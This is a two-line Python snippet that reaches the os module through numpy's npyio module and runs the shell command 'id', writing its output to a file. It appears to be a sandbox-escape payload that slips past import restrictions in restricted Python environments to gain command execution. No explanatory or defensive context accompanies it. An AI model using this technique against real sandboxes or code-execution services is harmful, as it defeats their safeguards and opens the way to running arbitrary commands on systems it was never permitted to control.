from numpy.lib import npyio
npyio.os.system("id>pf")
